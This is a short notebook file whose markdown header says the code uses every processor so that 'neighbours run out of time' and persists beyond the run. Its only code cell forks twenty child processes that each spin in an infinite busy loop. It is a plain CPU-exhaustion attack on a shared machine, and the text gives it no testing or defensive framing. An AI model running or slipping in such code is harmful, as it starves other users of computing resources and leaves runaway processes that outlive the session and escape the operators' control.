# %% [markdown] stock="it would outlive the run on this machine"
# Uses all processors with threads and children from its first cell to its last, so that neighbours run out of time.

# %% first
import os

for _ in range(20):
    if os.fork() == 0:
        while True:
            pass
